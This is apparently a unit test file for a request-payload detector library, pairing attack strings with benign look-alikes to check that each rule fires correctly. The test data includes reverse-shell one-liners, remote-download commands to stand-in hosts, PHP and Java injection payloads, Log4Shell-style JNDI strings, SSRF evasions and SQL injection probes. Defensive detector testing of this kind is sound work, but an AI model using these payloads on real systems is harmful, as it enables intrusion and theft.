/**
 * The detector families added for issue 13 (Java, PHP, Node.js injection, Windows and separator-less command
 * lines, RFI, session fixation, scanners) and the SSRF, CRLF, SQL and JNDI evasions: each attack, written from
 * public descriptions of the technique, fires its rule; the benign near-miss beside it does not.
 */
import { describe, expect, it } from 'vitest';
import { createCmdiDetector } from '../../../src/verifiers/payload-shield/cmdi.js';
import { createCrlfDetector } from '../../../src/verifiers/payload-shield/crlf.js';
import { createJavaDetector } from '../../../src/verifiers/payload-shield/java.js';
import { createJndiDetector } from '../../../src/verifiers/payload-shield/jndi.js';
import { createLdapiDetector } from '../../../src/verifiers/payload-shield/ldapi.js';
import { createPhpDetector } from '../../../src/verifiers/payload-shield/php.js';
import { createRfiDetector } from '../../../src/verifiers/payload-shield/rfi.js';
import { createScannerDetector } from '../../../src/verifiers/payload-shield/scanner.js';
import { createSessionFixationDetector } from '../../../src/verifiers/payload-shield/session-fixation.js';
import { createSqliDetector } from '../../../src/verifiers/payload-shield/sqli.js';
import { createSsjiDetector } from '../../../src/verifiers/payload-shield/ssji.js';
import { createSsrfDetector } from '../../../src/verifiers/payload-shield/ssrf.js';
import type { Detector, LocationKind, ValueRole } from '../../../src/verifiers/payload-shield/types.js';
import { valueOf } from './helpers.js';

type Case = [input: string, rule: string | undefined, kind?: LocationKind, name?: string, role?: ValueRole];

function check(detector: Detector, cases: readonly Case[]): void {
  for (const [input, rule, kind = 'body', name = 'q', role = 'value'] of cases) {
    it(`${rule ?? 'passes'}: ${JSON.stringify(input).slice(0, 70)}`, () => {
      expect(detector.detect(valueOf(input, kind, name, role), 1)?.ruleId).toBe(rule);
    });
  }
}

describe('java', () => {
  check(createJavaDetector(), [
    ['Runtime.getRuntime().exec("id")', 'java-process-exec'],
    ['new java.lang.ProcessBuilder({"/bin/sh","-c","id"}).start()', 'java-process-exec'],
    ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", 'java-process-exec'],
    ["%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", 'java-expression-injection'],
    ['${#a=1}', 'java-expression-injection'],
    ["#{T(java.lang.System).getenv()}", 'java-expression-injection'],
    ["${''.getClass().forName('java.lang.String')}", 'java-expression-injection'],
    ['${pageContext.request.serverName}', 'java-expression-injection'],
    ['rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ', 'java-deserialization'],
    ['aced0005737200116a6176612e7574696c2e48617368536574', 'java-deserialization'],
    ['org.apache.commons.collections.functors.InvokerTransformer', 'java-deserialization'],
    ['<java version="1.8"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1">', 'java-process-exec'],
    ['<java version="1.8"><object class="javax.naming.InitialContext"><void method="lookup">', 'java-deserialization'],
    ['com.sun.rowset.JdbcRowSetImpl', 'java-deserialization', 'body', '@type'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.pattern', 'java-class-loader-binding', 'query', '', 'key'],
    // benign: crash reports, JSON-LD types, prose
    ['at java.lang.reflect.Method.invoke(Native Method)\n\tat com.android.internal.os.RuntimeInit$MethodAndArgsCaller.run(RuntimeInit.java:552)', undefined],
    ['Person', undefined, 'body', '@type'],
    ['The runtime of the process was 3 minutes', undefined],
    ['Use #hashtags (#summer) in your post', undefined],
  ]);
});

describe('php', () => {
  check(createPhpDetector(), [
    ["system('id');", 'php-dangerous-call'],
    ['eval($_POST["x"])', 'php-dangerous-call'],
    ['assert /* x */ ("phpinfo()")', 'php-dangerous-call'],
    ['shell_exec\n(\n"cat /etc/passwd")', 'php-dangerous-call'],
    [':phpversion();', 'php-dangerous-call'],
    ['include $_GET["page"];', 'php-dangerous-call'],
    ["require_once('http://evil.example/shell.txt')", 'php-dangerous-call'],
    ["$_GET['f']($_GET['a'])", 'php-variable-function'],
    ["${'_GET'}['x']", 'php-variable-function'],
    ['x;$f($_POST[1]);', 'php-variable-function'],
    ['O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}', 'php-object-injection'],
    ['a:1:{i:0;O:7:"Monolog":0:{}}', 'php-object-injection'],
    ['php://filter/convert.base64-encode/resource=index.php', 'php-stream-wrapper'],
    ['phar://uploads/avatar.jpg/shell', 'php-stream-wrapper'],
    ['shell.php', 'php-script-file-name', 'body', 'filename'],
    ['avatar.php.jpg', 'php-script-file-name', 'body', 'file_name'],
    ['x.phtml', 'php-script-file-name', 'body', 'upload'],
    // benign
    ['The system (iOS 17) crashed twice', undefined],
    ["const fs = require('fs');", undefined],
    ['$total = array_sum(array_column($rows, "price"));', undefined],
    ['report.pdf', undefined, 'body', 'filename'],
    ['index.php', undefined, 'body', 'comment'],
  ]);
});

describe('ssji (Node.js)', () => {
  check(createSsjiDetector(), [
    ["require('child_process').exec('id')", 'ssji-child-process'],
    ["process.mainModule.require('child_process')", 'ssji-child-process'],
    ['process.mainModule.constructor._load("fs")', 'ssji-process-access'],
    ["global.process.exit()", 'ssji-process-access'],
    ["process.binding('spawn_sync')", 'ssji-process-access'],
    ["this.constructor.constructor('return process')()", 'ssji-constructor-chain'],
    ["[].constructor.constructor('return this')()", 'ssji-constructor-chain'],
    ["''['constructor']['constructor']('return process')()", 'ssji-constructor-chain'],
    ["require('fs').readFileSync('/etc/passwd')", 'ssji-module-load'],
    // benign
    ['ReferenceError: process is not defined', undefined],
    ['The constructor of the class takes two arguments', undefined],
    ["import fs from 'fs'", undefined],
  ]);
});

describe('cmdi: command lines without separators', () => {
  check(createCmdiDetector(), [
    ['cmd /c whoami', 'cmdi-windows-command'],
    ['cmd.exe /k dir', 'cmdi-windows-command'],
    ['for /f "tokens=*" %i in (\'whoami\') do echo %i', 'cmdi-windows-command'],
    ['net user hacker Password1 /ADD', 'cmdi-windows-command'],
    ['net localgroup Administrators hacker /ADD', 'cmdi-windows-command'],
    ['| net view', 'cmdi-windows-command'],
    ['reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f', 'cmdi-windows-command'],
    ['netsh advfirewall set allprofiles state off', 'cmdi-windows-command'],
    ['powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'cmdi-windows-command'],
    ['certutil -urlcache -split -f http://x.example/a.exe a.exe', 'cmdi-windows-command'],
    ['whoami', 'cmdi-command-line'],
    ['uname -a', 'cmdi-command-line'],
    ['systeminfo', 'cmdi-command-line'],
    ['which curl', 'cmdi-command-line'],
    ["perl -e 'print \"X\"x2048'", 'cmdi-command-line'],
    ['sleep 5', 'cmdi-command-line'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'cmdi-bare-command'],
    ["x=1 python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", 'cmdi-exec-call'],
    ['x; find . -exec /bin/sh \\; -quit', 'cmdi-chained-command'],
    ["awk 'BEGIN {system(\"/bin/sh\")}'", 'cmdi-exec-call'],
    ['socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty', 'cmdi-shell-spawn'],
    ['tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh', 'cmdi-shell-spawn'],
    ['curl http://x.example/i.sh | sh', 'cmdi-command-line'],
    // benign
    ['Net user growth was 4% last quarter', undefined],
    ['sleep quality improved', undefined],
    ['id', undefined, 'query', 'sort'],
    ['for / against', undefined],
    ['Which is better: the 16" or 18" model?', undefined],
    ['I ran `ls -la ~/Library/Caches` and the folder is empty.', undefined],
    ['Thanks, that worked! ```bash\nnpm install && npm run build\n```', undefined],
    ['A&W root beer', undefined],
  ]);
});

describe('rfi', () => {
  check(createRfiDetector(), [
    ['http://evil.example/shell.txt?', 'rfi-remote-include', 'query', 'page'],
    ['https://evil.example/c99', 'rfi-remote-include', 'query', 'include'],
    ['ftp://evil.example/x.php', 'rfi-remote-include', 'body', 'template'],
    ['http://evil.example/shell.txt?', 'rfi-truncated-url', 'query', 'avatar'],
    ['http://evil.example/x.jpg%00', 'rfi-truncated-url', 'query', 'img'],
    ['http://evil.example/x.jpg\0', 'rfi-truncated-url', 'body', 'img'],
    ['http://evil.example/x.jpg%00', 'rfi-truncated-url', 'body', 'img'],
    ['http://evil.example/shell.txt?', 'rfi-remote-include', 'body', 'page'],
    // benign
    ['https://shop.example/cart', undefined, 'query', 'redirect'],
    ['http://alambic.github.com/avatars/u/5346?', undefined, 'body', 'avatar_url'],
    ['https://cdn.example/a.png', undefined, 'body', 'page'],
    ['https://cdn.example/notes.txt', undefined, 'query', 'avatar'],
  ]);
});

describe('session fixation', () => {
  check(createSessionFixationDetector(), [
    ['jsessionid', 'session-fixation-id-parameter', 'query', 'jsessionid', 'key'],
    ['phpsessid', 'session-fixation-id-parameter', 'query', 'phpsessid', 'key'],
    ['/account;jsessionid=0123456789abcdef', 'session-fixation-id-parameter', 'path', ''],
    ['<script>document.cookie="sessionid=1234; domain=.example.com"</script>', 'session-fixation-cookie-set'],
    ['<meta http-equiv="Set-Cookie" content="sid=1">', 'session-fixation-cookie-set'],
    // benign
    ['session_id', undefined, 'query', 'session_id', 'key'],
    ['Please clear your cookies and retry', undefined],
  ]);
});

describe('scanner user agents and tool headers', () => {
  check(createScannerDetector(), [
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'scanner-user-agent', 'header', 'user-agent'],
    ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 'scanner-user-agent', 'header', 'user-agent'],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'scanner-user-agent', 'header', 'user-agent'],
    ['Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'scanner-user-agent', 'header', 'user-agent'],
    ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'scanner-user-agent', 'header', 'user-agent'],
    ['WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 'scanner-user-agent', 'header', 'user-agent'],
    ['1', 'scanner-tool-header', 'header', 'acunetix-product'],
    // benign
    ['okhttp/4.12.0', undefined, 'header', 'user-agent'],
    ['curl/8.4.0', undefined, 'header', 'user-agent'],
    ['python-requests/2.31.0', undefined, 'header', 'user-agent'],
    ['sqlmap', undefined, 'body', 'comment'],
  ]);
});

describe('SSRF evasions', () => {
  check(createSsrfDetector(), [
    ['http://①②⑦.⓪.⓪.①/', 'ssrf-internal-host', 'body', 'url'],
    ['http://127。0。0。1/', 'ssrf-internal-host', 'body', 'url'],
    ['http://6425673729/', 'ssrf-internal-host', 'body', 'url'],
    ['http:127.0.0.1/admin', 'ssrf-internal-host', 'body', 'comment'],
    ['http:/127.0.0.1/admin', 'ssrf-internal-host', 'body', 'comment'],
    ['http://localtest.me/', 'ssrf-internal-host', 'body', 'url'],
    ['http://customer1.app.localhost.my.company.127.0.0.1.nip.io', 'ssrf-internal-host', 'body', 'url'],
    ['http://lvh.me:8080/', 'ssrf-internal-host', 'body', 'url'],
    ['http://[::127.0.0.1]/', 'ssrf-internal-host', 'body', 'url'],
    ['http://[0:0:0:0:0:ffff:127.0.0.1]/', 'ssrf-internal-host', 'body', 'url'],
    ['http://[64:ff9b::7f00:1]/', 'ssrf-internal-host', 'body', 'url'],
    // benign
    ['ssh://git@localhost:2222/acme/app.git', undefined, 'body', 'ssh_url'],
    ['http://localhost:8081/callback', undefined, 'query', 'redirect_uri'],
    ['https://api.example.com/v1', undefined, 'body', 'url'],
    ['localhost:3000', undefined, 'header', 'host'],
  ]);
  it('still flags a plainly spelled internal URL at the top level of a body', () => {
    expect(createSsrfDetector().detect({ ...valueOf('http://localhost:8080/admin', 'body', 'clone_url'), depth: 1 }, 1)?.ruleId).toBe('ssrf-internal-host');
    expect(createSsrfDetector().detect({ ...valueOf('http://localhost:8080/admin', 'body', 'clone_url'), depth: 2 }, 1)).toBeUndefined();
    expect(createSsrfDetector().detect({ ...valueOf('http://0x7f000001/admin', 'body', 'clone_url'), depth: 3 }, 1)?.ruleId).toBe('ssrf-internal-host');
  });
});

describe('CRLF in paths and parameter names', () => {
  check(createCrlfDetector(), [
    ['/api/items\r\nX: y', 'crlf-line-break', 'path', ''],
    ['/a%0d%0a', 'crlf-line-break', 'path', ''],
    ['na\r\nme', 'crlf-line-break', 'query', '', 'key'],
    ['line one\nline two', undefined, 'body', 'comment'],
  ]);
});

describe('SQL probes and evasions', () => {
  check(createSqliDetector(), [
    ['1 or true', 'sqli-tautology'],
    ['1) or false--', 'sqli-tautology'],
    ['1\u00a0union\u00a0select\u00a0password\u00a0from\u00a0users', 'sqli-union-select'],
    [' ORDER BY 3--', 'sqli-clause-injection'],
    ['1 order by 5', 'sqli-clause-injection'],
    ['Please order by 5 pm', undefined],
    // benign
    ['pipe 16" or 18"', undefined],
    ['16" or 18" pizza', undefined],
    ['table 6\' x 9\' order by price', undefined],
    ['select@example.com', undefined],
    ['If you like X, you’ll like this; if not, skip.', undefined],
    ['Revert "Drop table view"', undefined],
    ['true or false', undefined],
  ]);
});

describe('LDAP filter fragments', () => {
  check(createLdapiDetector(), [
    ['admin)(&)', 'ldapi-filter-injection'],
    ['x)(|)', 'ldapi-filter-injection'],
    ["*()|&'", 'ldapi-filter-injection'],
    ['John (aka Jack) Smith', undefined],
  ]);
});

describe('JNDI spelled with HTML entities', () => {
  check(createJndiDetector(), [
    ['&dollar;&lbrace;jndi:ldap://x.example/a&rbrace;', 'jndi-lookup'],
    ['&#36;&#123;jndi:ldap://x.example/a}', 'jndi-lookup'],
  ]);
});

describe('command injection: a command chained after each kind of separator', () => {
  const cmdi = createCmdiDetector();
  it.each([
    ['order 5; whoami', ';'],
    ['order 5 | whoami', '|'],
    ['order 5 && whoami', '&'],
    ['order 5\nls -la /etc', 'a line break'],
    ['order 5\\nls -la /etc', 'a literal \\n escape'],
  ])('%j chains a command after %s', (value) => {
    expect(cmdi.detect(valueOf(value), 1)?.ruleId).toBe('cmdi-chained-command');
  });
});
